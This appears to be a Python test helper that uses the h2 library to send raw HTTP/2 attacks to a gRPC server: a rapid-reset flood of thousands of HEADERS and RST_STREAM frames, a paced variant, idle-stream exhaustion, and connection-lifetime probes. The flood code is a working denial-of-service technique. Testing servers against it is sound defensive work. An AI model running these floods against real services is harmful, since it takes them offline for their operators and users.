"""A raw HTTP/2 client for the attacks gRPC itself cannot make: rapid reset and the like.

The ``h2`` protocol core frames the connection; this module only moves its
bytes over a socket, so what goes on the wire is exactly what the test asks for.
"""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import h2.exceptions


@dataclass
class RapidResetOutcome:
    """What the server did while the streams were opened and reset."""

    streams_sent: int
    goaway: bool  # the server closed the connection with GOAWAY
    refused_streams: int  # streams the server reset itself (REFUSED_STREAM and the like)


def _headers(authority: str, path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def rapid_reset(
    address: str, path: str, *, streams: int = 20_000, timeout: float = 30.0
) -> RapidResetOutcome:
    """Open ``streams`` streams on one connection, each HEADERS then RST_STREAM(CANCEL) at once.

    Every frame is built before connecting and sent as fast as the socket
    takes it, as an attacker would; the server's frames are read meanwhile. At
    the end a PING is sent and its ACK awaited, so the server has read every
    frame before this returns (unless it sent GOAWAY first).
    """
    host, _, port = address.rpartition(":")
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    connection = h2.connection.H2Connection(config=config)
    connection.initiate_connection()
    headers = _headers(address, path)
    for _ in range(streams):
        stream_id = connection.get_next_available_stream_id()
        connection.send_headers(stream_id, headers)
        connection.reset_stream(stream_id)
    flood = connection.data_to_send()
    outcome = RapidResetOutcome(streams_sent=streams, goaway=False, refused_streams=0)
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        sent = threading.Event()

        def send() -> None:
            try:
                sock.sendall(flood)
            except OSError:
                outcome.goaway = True
            sent.set()

        writer = threading.Thread(target=send, daemon=True)
        writer.start()
        replies = b""  # what h2 answers (SETTINGS ACK...), sent once the flood is out
        pinged = pong = False
        while not pong and not outcome.goaway:
            if sent.is_set() and not pinged:
                connection.ping(b"rstflood")
                sock.sendall(replies + connection.data_to_send())
                pinged = True
            try:
                data = sock.recv(65536)
            except TimeoutError:
                break
            if not data:
                outcome.goaway = True
                break
            try:
                events = connection.receive_data(data)
            except h2.exceptions.ProtocolError:
                outcome.goaway = True
                break
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    outcome.goaway = True
                elif isinstance(event, h2.events.StreamReset) and event.remote_reset:
                    outcome.refused_streams += 1
                elif isinstance(event, h2.events.PingAckReceived):
                    pong = True
            if pinged:
                sock.sendall(connection.data_to_send())
            else:
                replies += connection.data_to_send()
        writer.join(timeout)
    return outcome


def paced_reset(
    address: str, path: str, streams: int, *, batch: int = 100, pause: float = 0.003
) -> bool:
    """Open and reset ``streams`` streams, ``batch`` at a time ``pause`` seconds apart.

    Paced so that the server clears its stream map between batches: each batch
    fits under a stream bound of ``batch`` or more. Returns ``False`` if the
    server ended the connection first.
    """
    host, _, port = address.rpartition(":")
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    connection = h2.connection.H2Connection(config=config)
    connection.initiate_connection()
    headers = _headers(address, path)
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(connection.data_to_send())
        for start in range(0, streams, batch):
            for _ in range(min(batch, streams - start)):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, headers)
                connection.reset_stream(stream_id)
            try:
                sock.sendall(connection.data_to_send())
                time.sleep(pause)
                sock.setblocking(False)
                data = sock.recv(1 << 20)
            except BlockingIOError:
                continue
            except OSError:
                return False
            finally:
                sock.setblocking(True)
            try:
                events = connection.receive_data(data) if data else None
            except h2.exceptions.ProtocolError:
                return False
            if events is None or any(
                isinstance(event, h2.events.ConnectionTerminated) for event in events
            ):
                return False
    return True


@dataclass
class Goaway:
    """How the server ended a connection: the GOAWAY it sent, or ``None`` if it only closed it."""

    error_code: int | None
    debug: bytes
    after: float  # seconds after the connection was opened


def until_closed(address: str, *, pings: int = 0, timeout: float = 10.0) -> Goaway:
    """Open a connection (the preface, then ``pings`` PINGs and no call) and wait until it ends."""
    host, _, port = address.rpartition(":")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    for i in range(pings):
        connection.ping(i.to_bytes(8, "big"))
    started = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        sock.sendall(connection.data_to_send())
        while True:
            data = sock.recv(65536)
            if not data:
                return Goaway(None, b"", time.monotonic() - started)
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return Goaway(
                        event.error_code, event.additional_data or b"", time.monotonic() - started
                    )
            sock.sendall(connection.data_to_send())


def silent_connection_lifetime(address: str, *, timeout: float = 10.0) -> float:
    """Seconds until the server closes a TCP connection on which the client never speaks."""
    host, _, port = address.rpartition(":")
    started = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:
        while sock.recv(65536):
            pass
    return time.monotonic() - started


def _text(value: str | bytes) -> str:
    return value.decode() if isinstance(value, bytes) else value


class IdleStreams:
    """Streams opened (HEADERS without END_STREAM) and left waiting, over several connections."""

    def __init__(self, address: str, path: str, *, connections: int, per_connection: int) -> None:
        host, _, port = address.rpartition(":")
        self.statuses: list[str] = []  # grpc-status of each stream the server ended
        self._links: list[tuple[socket.socket, h2.connection.H2Connection]] = []
        for _ in range(connections):
            config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
            connection = h2.connection.H2Connection(config=config)
            connection.initiate_connection()
            for _ in range(per_connection):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, _headers(address, path))
            sock = socket.create_connection((host, int(port)), timeout=10)
            sock.sendall(connection.data_to_send())
            sock.setblocking(False)
            self._links.append((sock, connection))

    def read(self) -> None:
        """Take in what the server has sent so far (statuses of ended streams)."""
        for sock, connection in self._links:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                continue
            for event in connection.receive_data(data):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    for name, value in event.headers or ():
                        if _text(name) == "grpc-status":
                            self.statuses.append(_text(value))
            pending = connection.data_to_send()
            if pending:
                sock.sendall(pending)

    def close(self) -> None:
        """Close every connection."""
        for sock, _ in self._links:
            sock.close()
